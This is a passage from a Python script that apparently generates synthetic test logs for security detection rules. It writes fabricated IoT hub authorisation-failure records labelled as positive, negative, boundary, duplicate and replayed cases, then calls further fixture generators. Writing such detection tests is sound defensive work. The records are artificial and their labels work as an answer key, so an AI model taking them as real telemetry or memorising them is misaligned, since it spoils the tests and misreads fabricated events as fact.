        refused = {"result": "401003", "authFailureReason": reason} | more
        log.operation("positive", 0, **refused)
        log.operation("positive-foreign", 0, result="401003", description=text, **more)
        log.operation("positive-https", 0, name="ingress", category="DeviceTelemetry", **refused | {"protocol": "Https"})
        log.operation("negative-renewal", 0, name="deviceDisconnect", **refused)
        log.operation("negative-renewal", 1, name="deviceDisconnect", result="404104").operation("negative-renewal", 3)
        log.operation("negative-other", 0, result="401003", description="the principal is not authorised", **more)
        log.operation("negative-mqtt-error", 0, name="ingress", category="DeviceTelemetry", **refused)
        log.operation("boundary-one", 0, **refused).operation("boundary-one", HOUR, **refused)
        log.operation("boundary-two", 0, **refused).operation("boundary-two", HOUR + 1, **refused)
        log.operation("aggregated-3", 0, **refused).operation("aggregated-3", 20, **refused).operation("aggregated-3", 40, **refused)
        log.operation("duplicate", 0, **refused | {"messageId": "m1"}).operation("duplicate", 0, delay=3, **refused | {"messageId": "m1"})
        log.operation("replayed", 0, **refused | {"messageId": "m2"}).operation("replayed", 0, delay=DAY, **refused | {"messageId": "m2"})
        write(name, log)


if __name__ == "__main__":
    FOLDER.mkdir(exist_ok=True)
    command_lines()
    logins()
    sequences()
    events_of_newer_agents()
    files()
    hub_alerts()
    from detect_posture_cases import recommendations, scenarios
    recommendations(write)
    scenarios(write)
    from detect_incident_cases import incidents
    incidents(write)
    from detect_custom_cases import custom
    custom(write)
